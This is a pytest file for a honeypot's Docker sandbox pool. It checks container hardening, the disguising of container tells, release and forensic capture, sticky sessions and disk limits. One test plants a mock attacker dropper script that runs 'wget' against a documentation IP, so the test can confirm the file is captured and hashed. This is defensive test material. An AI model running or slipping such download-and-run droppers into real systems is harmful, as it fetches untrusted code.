"""The sandbox pool against the real engine: hardening, warm-up, allocation, release, forensics.

What the fake engine can also show (warm-up, timeouts, sharing, outages, retention) is the battery
in tests/pool_battery.py, run here against the real engine by the `backend` fixture below.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import os
import subprocess
import uuid
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from sandtrap.config import Config, parse_config
from sandtrap.events import Event
from sandtrap.sandbox.docker import Engine
from sandtrap.sandbox.pool import Pool
from tests.conftest import IMAGE
from tests.docker.service import dockerd_pid, dockerd_restart, remove_sensor_containers
from tests.pool_battery import (  # noqa: F401 - the battery's tests, collected here
    Backend,
    peer,
    sh,
    test_a_burst_beyond_the_warm_pool_waits_and_every_login_is_served,
    test_a_release_while_a_login_waits_freezes_it_and_stops_it_in_its_turn,
    test_concurrent_connections_of_one_source_share_one_sandbox,
    test_max_sandboxes_and_allocation_timeout,
    test_outage_members_are_rechecked_and_refill_resumes,
    test_release_stops_and_keeps_the_sandbox,
    test_restart_reconciles_and_retention_prunes,
    test_sticky_sources_share_and_get_their_sandbox_back,
    test_warms_up_to_its_size_and_refills_behind_an_allocation,
)

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]


class Sink:
    def __init__(self) -> None:
        self.events: list[Event] = []

    def emit(self, event: Event) -> None:
        self.events.append(event)

    def of(self, eventid: str) -> list[Any]:
        return [e for e in self.events if e.eventid == eventid]


def _docker(*args: str) -> str:
    return subprocess.run(["docker", *args], capture_output=True, text=True, check=True).stdout


@pytest.fixture
def sensor() -> Iterator[str]:
    name = f"test-{uuid.uuid4().hex[:10]}"
    yield name
    remove_sensor_containers(name)


@pytest.fixture
async def backend(sensor: str, tmp_path: Path) -> AsyncIterator[Backend]:
    engine = Engine("unix:///var/run/docker.sock")
    may_restart = os.geteuid() == 0 and dockerd_pid() is not None
    try:
        yield Backend(
            engine=engine,
            sensor=sensor,
            image=IMAGE,
            tmp_path=tmp_path,
            patience=90,
            allocate_timeout=1.5,
            health_interval=0.5,
            retry_delays=(0.5, 30.0),
            outage=dockerd_restart if may_restart else None,
        )
    finally:
        await engine.close()


def make_config(sensor: str, tmp_path: Path, **sections: dict[str, Any]) -> Config:
    data: dict[str, Any] = {
        "sensor": sensor,
        "pool": {"size": 2, "max_sandboxes": 4, "allocate_timeout_seconds": 5},
        "sandbox": {"image": IMAGE, "hostnames": ["web-prod-03", "db-prod-01"], "network": "none"},
        "storage": {"data_dir": str(tmp_path / "var")},
    }
    for key, value in sections.items():
        data[key] = {**data.get(key, {}), **value}
    return parse_config(data)


@asynccontextmanager
async def running_pool(config: Config, sink: Sink) -> AsyncIterator[Pool]:
    engine = Engine(config.sandbox.docker_url)
    pool = Pool(config, engine, sink)
    started = asyncio.Event()
    task = asyncio.create_task(pool.run(started))
    try:
        async with asyncio.timeout(60):
            await started.wait()
        yield pool
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task
        try:
            await pool.shutdown()
        finally:
            await engine.close()


async def test_pool_warms_and_sandbox_is_hardened(sensor: str, tmp_path: Path) -> None:
    sink = Sink()
    config = make_config(sensor, tmp_path)
    async with running_pool(config, sink) as pool:
        async with asyncio.timeout(60):
            await pool.wait_warm()
        assert pool.statistics().idle == 2
        sandbox = await pool.allocate(peer(1))
        details = json.loads(_docker("inspect", sandbox.id))[0]
        host = details["HostConfig"]
        assert details["State"]["Running"] is True
        assert host["NetworkMode"] == "none"
        assert host["Privileged"] is False
        assert host["CapDrop"] == ["ALL"]
        assert sorted(host["CapAdd"]) == sorted(config.sandbox.cap_add)
        assert "no-new-privileges:true" in host["SecurityOpt"]
        assert host["PidsLimit"] == 100
        assert host["Memory"] == host["MemorySwap"] == 256 * 1024 * 1024
        assert host["NanoCpus"] == 500_000_000
        assert not details["Mounts"]
        assert details["Config"]["Labels"]["sandtrap.sensor"] == sensor
        assert details["Name"] == "/sandtrap-s-000000000001-203.0.113.11"
        assert details["Config"]["Hostname"] in ("web-prod-03", "db-prod-01")
        assert sink.of("sandbox.allocated")[0].container_id == sandbox.id
        # The pool refills to its size behind the allocation.
        async with asyncio.timeout(60):
            await pool.wait_warm()


async def test_inside_a_sandbox(sensor: str, tmp_path: Path) -> None:
    config = make_config(sensor, tmp_path, pool={"size": 1})
    async with running_pool(config, Sink()) as pool:
        sandbox = await pool.allocate(peer(1))
        home = await sandbox.ensure_user("oracle")
        assert home == "/home/oracle"
        code, out = await sh(sandbox, "ls /sys/class/net; ip route; echo routes-done")
        assert code == 0
        assert out.split() == ["lo", "routes-done"]
        code, out = await sh(sandbox, "test -e /.dockerenv && echo present || echo absent")
        assert out.strip() == "absent"
        code, out = await sh(sandbox, "hostname; cat /etc/hostname")
        assert out.split() == [sandbox.hostname, sandbox.hostname]
        code, out = await sh(sandbox, "id -un; echo $HOME; pwd", user="oracle")
        assert out.split()[0] == "oracle"
        code, out = await sh(sandbox, "ps -eo pid,args | awk '$1==1'")
        assert out.split()[1] == "/sbin/init"
        code, out = await sh(sandbox, "ps -eo args")
        for tell in ("tini", "docker-init", "sleep infinity"):
            assert tell not in out
        # Capabilities: exactly the configured set, nothing more.
        code, out = await sh(sandbox, "grep CapEff /proc/self/status")
        effective = int(out.split()[1], 16)
        allowed = {"CHOWN": 0, "DAC_OVERRIDE": 1, "FOWNER": 3, "KILL": 5, "SETGID": 6, "SETUID": 7}
        expected = sum(1 << allowed[name] for name in config.sandbox.cap_add)
        assert effective == expected
        code, out = await sh(sandbox, "mount -t tmpfs none /mnt 2>&1; echo rc=$?")
        assert "rc=0" not in out


async def test_release_keeps_container_and_captures_files(sensor: str, tmp_path: Path) -> None:
    sink = Sink()
    config = make_config(sensor, tmp_path, pool={"size": 1})
    async with running_pool(config, sink) as pool:
        session = peer(7)
        sandbox = await pool.allocate(session)
        await sandbox.ensure_user("root")
        payload = b"#!/bin/sh\n# dropped by the attacker\nwget http://203.0.113.1/x\n"
        stream = await sandbox.exec(
            ["/bin/sh", "-c", "cat > /tmp/dropper.sh"], user="root", tty=False
        )
        await stream.write(payload)
        await stream.close_stdin()
        while await stream.read() is not None:
            pass
        assert await stream.wait() == 0
        await stream.close()
        await sh(sandbox, "rm /etc/issue.net; mkdir -p /root/.x && echo hi > /root/.x/y")
        await pool.release(sandbox, session)
    state = json.loads(_docker("inspect", sandbox.id))[0]["State"]
    assert state["Running"] is False  # stopped, not removed
    diff = sink.of("sandbox.diff")[0]
    kinds = {c["path"]: c["kind"] for c in diff.changes}
    assert kinds["/tmp/dropper.sh"] == "added"
    assert kinds["/etc/issue.net"] == "deleted"
    assert "/.dockerenv" not in kinds  # our own preparation is not the attacker's doing
    artifacts = {a.path: a for a in sink.of("sandbox.artifact")}
    dropped = artifacts["/tmp/dropper.sh"]
    assert dropped.sha256 == hashlib.sha256(payload).hexdigest()
    stored = tmp_path / "var" / "artifacts" / dropped.sha256
    assert stored.read_bytes() == payload
    assert sink.of("sandbox.released")[0].stopped is True


async def test_sticky_mode_returns_the_same_sandbox(sensor: str, tmp_path: Path) -> None:
    config = make_config(sensor, tmp_path, pool={"size": 1, "sticky": True})
    async with running_pool(config, Sink()) as pool:
        first = await pool.allocate(peer(1, ip="198.51.100.4"))
        await sh(first, "echo left-behind > /root/note")
        await pool.release(first, peer(1, ip="198.51.100.4"))
        again = await pool.allocate(peer(2, ip="198.51.100.4"))
        assert again.id == first.id
        _, out = await sh(again, "cat /root/note")
        assert out.strip() == "left-behind"
        other = await pool.allocate(peer(3, ip="198.51.100.5"))
        assert other.id != first.id


async def test_disk_budget_stops_the_sandbox(sensor: str, tmp_path: Path) -> None:
    sink = Sink()
    config = make_config(
        sensor,
        tmp_path,
        pool={"size": 1},
        sandbox={"disk_limit_mb": 20, "disk_check_interval_seconds": 0.5, "io_bps_limit": 0},
    )
    async with running_pool(config, sink) as pool:
        sandbox = await pool.allocate(peer(9))
        code, _ = await sh(sandbox, "head -c 40M /dev/zero > /root/fill; sync")
        assert code == 0
        async with asyncio.timeout(30):
            while not sink.of("sandbox.disk_exceeded"):
                await asyncio.sleep(0.2)
        exceeded = sink.of("sandbox.disk_exceeded")[0]
        assert exceeded.limit_mb == 20
        assert exceeded.size_mb > 20
        async with asyncio.timeout(30):
            while json.loads(_docker("inspect", sandbox.id))[0]["State"]["Running"]:
                await asyncio.sleep(0.2)
        await pool.release(sandbox, peer(9))


@pytest.fixture
def alt_image(sensor: str) -> Iterator[str]:
    """The target image under a second name, to stand for a second target."""
    alt = f"sandtrap/test-alt:{sensor}"
    subprocess.run(["docker", "tag", IMAGE, alt], check=True)
    yield alt
    remove_sensor_containers(sensor)
    subprocess.run(["docker", "rmi", alt], capture_output=True, check=False)


async def test_weighted_images_are_kept_in_proportion(
    sensor: str, alt_image: str, tmp_path: Path
) -> None:
    config = make_config(
        sensor,
        tmp_path,
        pool={"size": 4, "max_sandboxes": 8},
        sandbox={"images": [{"image": IMAGE, "weight": 3}, {"image": alt_image, "weight": 1}]},
    )
    async with running_pool(config, Sink()) as pool:
        await asyncio.wait_for(pool.wait_warm(), 90)
        names = _docker(
            "ps", "--format", "{{.Image}}", "--filter", f"label=sandtrap.sensor={sensor}"
        ).split()
        assert sorted(names) == sorted([IMAGE, IMAGE, IMAGE, alt_image])
        drawn = {(await pool.allocate(peer(n))).image for n in range(1, 5)}
        assert drawn == {IMAGE, alt_image}
